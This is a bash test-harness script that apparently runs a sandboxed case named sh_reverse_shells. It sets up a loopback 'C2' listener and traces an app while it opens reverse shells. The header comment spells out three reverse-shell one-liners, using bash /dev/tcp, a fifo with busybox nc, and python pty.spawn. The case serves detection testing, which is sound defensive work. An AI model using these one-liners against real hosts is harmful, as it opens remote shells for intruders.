#!/bin/bash
# Case sh_reverse_shells: a bash "netcheck" script (apps/sh_reverse_shells/netcheck.sh, run as
# auditor) that opens three reverse shells to an UNTRACED loopback "C2" (c2_listener.py, as
# auditor, on 127.0.0.1:4445, which sends "id", "exit" to each and prints the answer):
# `bash -i >& /dev/tcp/127.0.0.1/4445 0>&1`, `cat fifo | sh -i 2>&1 | busybox nc ... > fifo`
# and python3 -c "... os.dup2(s.fileno(), f) ...; pty.spawn('/bin/sh')". Ends by itself;
# ss/ps are taken while the third shell runs.
# Run as root: testdata/harness/sh_reverse_shells.sh
set -euo pipefail
CASE_HOSTNAME=7c3e9a1f5b20
source "$(dirname "$(readlink -f "$0")")/lib.sh"
enter_sandbox sh_reverse_shells
# ---- from here on: PID 1 inside the sandbox ----
install_app sh_reverse_shells c2_listener.py
as_auditor /usr/bin/python3 /opt/harness/c2_listener.py --port 4445 --count 3 --timeout 3 \
  --send 'sleep 0.3; id\nexit\n' --ready /mnt/sync/listening > /mnt/c2.out 2>&1 &
C2=$!
wait_for 10 test -f /mnt/sync/listening
start_inotify -m -r /home/auditor /tmp
trace_app -f -tt -T -yy -s 128 \
  -e 'trace=!brk,rt_sigaction,rt_sigprocmask,newfstatat,lseek,ioctl,getdents64,futex,pread64' \
  -- ./netcheck.sh
wait_for 30 grep -q 'connection 2 ' /mnt/c2.out
sleep 0.3                       # the third shell (pty.spawn) is connected and sleeping
ss -tanp > /artifacts/ss.txt
ps -ef > /artifacts/ps.txt
finish_trace
wait $C2 || true
cat /mnt/c2.out >&2
